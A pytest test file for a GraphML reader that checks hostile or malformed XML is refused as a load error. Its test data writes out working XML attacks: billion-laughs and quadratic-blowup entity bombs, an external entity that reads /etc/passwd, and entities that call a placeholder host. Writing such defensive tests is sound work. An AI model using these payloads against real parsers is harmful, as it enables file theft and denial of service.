"""read_graphml: GraphML from other tools is read, anything hostile refused as LoadError."""

import networkx as nx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bildungsnetz import io
from bildungsnetz.errors import LoadError
from graph_files_expected import expected_edge, expected_node

pytestmark = pytest.mark.requires_extra("graphml")

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
GRAPHML = (
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
    '<key id="n" for="node" attr.name="note" attr.type="string"/>'
    '<graph edgedefault="undirected"><node id="a"><data key="n">{note}</data></node>'
    '<node id="b"/><edge source="a" target="b"/></graph></graphml>\n'
)

# Ten levels of ten: &lol9; expands to 10**9 times "lol", three gigabytes.
BILLION_LAUGHS = (
    HEAD
    + '<!DOCTYPE graphml [\n<!ENTITY lol0 "lol">\n'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(1, 10))
    + "]>\n"
    + GRAPHML.format(note="&lol9;")
)
# One entity of 100 kB used 100,000 times: ten gigabytes from half a megabyte, below the
# nesting depth that billion-laughs guards look at.
QUADRATIC_BLOWUP = (
    HEAD
    + f'<!DOCTYPE graphml [<!ENTITY a "{"a" * 100_000}">]>\n'
    + GRAPHML.format(note="&a;" * 100_000)
)
ENTITY = HEAD + '<!DOCTYPE graphml [<!ENTITY e "expanded">]>\n' + GRAPHML.format(note="&e;")
LOCAL_FILE = (
    HEAD
    + '<!DOCTYPE graphml [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    + GRAPHML.format(note="&x;")
)
URL = (
    HEAD
    + '<!DOCTYPE graphml [<!ENTITY x SYSTEM "http://example.invalid/steal">]>\n'
    + GRAPHML.format(note="&x;")
)
PARAMETER_ENTITY = (
    HEAD
    + '<!DOCTYPE graphml [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>\n'
    + GRAPHML.format(note="x")
)
DTD_ONLY = (
    HEAD
    + '<!DOCTYPE graphml SYSTEM "http://graphml.graphdrawing.org/dtds/graphml.dtd">\n'
    + GRAPHML.format(note="x")
)

HOSTILE = {
    "billion laughs": (BILLION_LAUGHS, "document type declaration"),
    "quadratic blowup": (QUADRATIC_BLOWUP, "document type declaration"),
    "internal entity": (ENTITY, "document type declaration"),
    "external entity, local file": (LOCAL_FILE, "document type declaration"),
    "external entity, URL": (URL, "document type declaration"),
    "external parameter entity": (PARAMETER_ENTITY, "document type declaration"),
    "DTD": (DTD_ONLY, "document type declaration"),
    "not XML": ("Akteur;Partner\ngs1;ja\n", "not well-formed XML"),
    "unclosed element": (HEAD + "<graphml><graph>", "not well-formed XML"),
    "an undeclared entity": (HEAD + GRAPHML.format(note="&nbsp;"), "not well-formed XML"),
    "XML, not GraphML": (HEAD + '<gexf xmlns="http://www.gexf.net/1.2draft"/>', "not GraphML"),
    "GraphML without its namespace": (HEAD + "<graphml><graph/></graphml>", "not GraphML"),
    "GraphML without a graph": (
        HEAD + '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"/>',
        "without a <graph>",
    ),
    "data of an undeclared key": (
        HEAD + GRAPHML.format(note="x").replace('key="n"', 'key="fehlt"'),
        "networkx cannot read",
    ),
    "an unknown type": (
        HEAD + GRAPHML.format(note="x").replace('"string"', '"complex"'),
        "networkx cannot read",
    ),
    "a truth value that is none": (
        HEAD + GRAPHML.format(note="vielleicht").replace('"string"', '"boolean"'),
        "networkx cannot read",
    ),
    "an unknown encoding": (
        '<?xml version="1.0" encoding="klingonisch"?>' + GRAPHML.format(note="x"),
        "unknown encoding",
    ),
    "an empty default of a truth value": (
        HEAD
        + GRAPHML.format(note="x").replace(
            'attr.type="string"/>', 'attr.type="boolean"><default/></key>'
        ),
        "networkx cannot read",
    ),
    "empty": ("", "empty"),
    "only white space": ("  \n\n", "empty"),
}


@pytest.mark.parametrize(
    "case",
    [
        # An empty file is refused before the parser is needed.
        pytest.param(case, marks=pytest.mark.requires_extra()) if reason == "empty" else case
        for case, (_, reason) in sorted(HOSTILE.items())
    ],
)
def test_a_hostile_or_broken_file_is_a_load_error_naming_it(tmp_path, case):
    """Each case is refused with one problem that names the file and says why."""
    text, reason = HOSTILE[case]
    path = tmp_path / "fremd.graphml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(LoadError) as caught:
        io.read_graphml(path)
    [problem] = caught.value.problems
    assert (problem.file, reason in problem.message) == (str(path), True)
    assert path.read_text(encoding="utf-8") == text


def test_a_refused_bomb_was_never_expanded(tmp_path):
    """The bombs are refused at their declaration: the message is the DTD's, not memory's."""
    path = tmp_path / "bombe.graphml"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    with pytest.raises(LoadError, match="document type declaration") as caught:
        io.read_graphml(path)
    assert len(str(caught.value)) < 1000
    assert path.stat().st_size < 2000


def test_without_the_defused_parse_networkx_would_expand_entities(tmp_path):
    """networkx's own parser expands an entity a DTD declares; read_graphml refuses it.

    This is what the defusedxml step adds. The standard library's expat does not fetch
    external entities and (since expat 2.4) stops a billion laughs by its amplification
    limit, so without defusedxml those cases would still end in a LoadError ("not
    well-formed XML"), but an internal entity, and with it a quadratic blowup below that
    limit, would be expanded into the graph.
    """
    assert nx.parse_graphml(ENTITY.encode()).nodes["a"]["note"] == "expanded"
    path = tmp_path / "entity.graphml"
    path.write_text(ENTITY, encoding="utf-8")
    with pytest.raises(LoadError, match="document type declaration"):
        io.read_graphml(path)


def test_a_file_over_max_bytes_is_refused_before_parsing(tmp_path):
    """A file one byte over the limit is refused; one exactly at it is read."""
    path = tmp_path / "gross.graphml"
    path.write_text(GRAPHML.format(note="x"), encoding="utf-8")
    size = path.stat().st_size
    with pytest.raises(LoadError, match=f"above the limit of {size - 1:,} bytes") as caught:
        io.read_graphml(path, max_bytes=size - 1)
    assert caught.value.problems[0].file == str(path)
    assert set(io.read_graphml(path, max_bytes=size).nodes) == {"a", "b"}


@pytest.mark.requires_extra  # none: runs without the extra
def test_the_size_limit_is_checked_before_parsing(tmp_path):
    """Even a billion laughs over the limit is refused for its size first."""
    path = tmp_path / "bombe.graphml"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    with pytest.raises(LoadError, match="above the limit"):
        io.read_graphml(path, max_bytes=100)


@pytest.mark.requires_extra  # none: runs without the extra
def test_a_negative_limit_is_a_value_error(tmp_path):
    """max_bytes must be a size."""
    with pytest.raises(ValueError, match="max_bytes cannot be negative, got -1"):
        io.read_graphml(tmp_path / "egal.graphml", max_bytes=-1)


@pytest.mark.requires_extra  # none: runs without the extra
def test_a_missing_file_is_file_not_found(tmp_path):
    """No file, no LoadError: the OSError callers already handle."""
    with pytest.raises(FileNotFoundError):
        io.read_graphml(tmp_path / "fehlt.graphml")


def test_graphml_of_another_tool_is_read_as_networkx_reads_it(tmp_path):
    """The GraphML primer's example: a directed graph, key defaults, typed values."""
    path = tmp_path / "primer.graphml"
    path.write_text(
        HEAD + '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
        '<key id="d0" for="node" attr.name="color" attr.type="string">'
        "<default>yellow</default></key>"
        '<key id="d1" for="edge" attr.name="weight" attr.type="double"/>'
        '<graph id="G" edgedefault="directed">'
        '<node id="n0"><data key="d0">green</data></node><node id="n1"/>'
        '<edge id="e0" source="n0" target="n1"><data key="d1">1.0</data></edge>'
        "</graph></graphml>",
        encoding="utf-8",
    )
    graph = io.read_graphml(path)
    assert (graph.is_directed(), dict(graph.nodes(data=True))) == (
        True,
        {"n0": {"color": "green"}, "n1": {}},
    )
    assert graph.edges["n0", "n1"] == {"weight": 1.0, "id": "e0"}
    assert graph.graph["node_default"] == {"color": "yellow"}


def test_an_exported_network_is_read_back_with_every_value(tmp_path, musterkreis_network):
    """read_graphml of write_graphml: every actor and cooperation with its attributes."""
    path = tmp_path / "musterkreis.graphml"
    io.write_graphml(musterkreis_network, path)
    graph = io.read_graphml(path)
    assert dict(graph.nodes(data=True)) == {
        actor.id: expected_node(actor) for actor in musterkreis_network.actors
    }
    # Musterkreis has no two ties between the same pair, so networkx returns a Graph and
    # keeps each edge id as the attribute "id".
    assert {data["id"]: (frozenset((u, v)), data) for u, v, data in graph.edges(data=True)} == {
        tie.id: (frozenset(tie.actors), expected_edge(tie) | {"id": tie.id})
        for tie in musterkreis_network.cooperations
    }


PIECES = [b"<", b">", b"&", b'"', b"/", b"key", b"data", b"node", b"edge", b"graph", b"id"]
PIECES += [b"for", b"attr.type", b"boolean", b"double", b"<default/>", b"directed", b"'true'"]
PIECES += [b"hyperedge", b"port", b"yfiles.type", b"\x00", b"\xff", b"&#0;", b"&amp;"]


# networkx warns of what it drops (ports, keys without a type); that is its answer to a
# damaged file as much as a graph is.
@pytest.mark.filterwarnings("ignore::UserWarning")
@given(
    st.lists(
        st.tuples(st.integers(0, 400), st.integers(0, 6), st.sampled_from(PIECES)),
        min_size=1,
        max_size=4,
    )
)
def test_a_damaged_file_is_a_graph_or_a_load_error(tmp_path_factory, edits):
    """Whatever a damaged file holds, read_graphml returns a graph or raises LoadError."""
    data = bytearray((HEAD + GRAPHML.format(note="x")).encode())
    for position, length, piece in edits:
        data[position : position + length] = piece
    path = tmp_path_factory.mktemp("kaputt") / "kaputt.graphml"
    path.write_bytes(bytes(data))
    try:
        outcome = io.read_graphml(path)
    except LoadError as error:
        outcome = [problem.file for problem in error.problems]
    assert isinstance(outcome, nx.Graph) or outcome == [str(path)]
